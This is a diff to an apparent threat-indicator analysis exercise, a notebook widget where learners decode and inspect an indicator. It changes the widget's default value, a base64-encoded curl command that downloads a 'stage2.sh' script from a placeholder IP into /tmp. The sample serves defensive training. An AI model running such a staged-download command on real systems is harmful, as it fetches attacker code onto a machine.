@@ -228,7 +228,7 @@ def explore_indicators(decode_command: Callable, ip_in_network: Callable, btc_ad
                        watched_networks: list[str]) -> widgets.VBox:
     """One box for an indicator: YOUR functions decode it, check it against watched networks, type a wallet."""
     text = widgets.Text(description="Indicator", layout=widgets.Layout(width="95%"),
-                        value="Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3N0YWdlMi5zaCAtbyAvdG1wL3MyLnNo")
+                        value="Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3N0YWdlMi5zaCAtbyAvdG1wL3N0YWdlMi5zaA")
     button = widgets.Button(description="Analyse", button_style="primary")
     report = widgets.HTML()
 
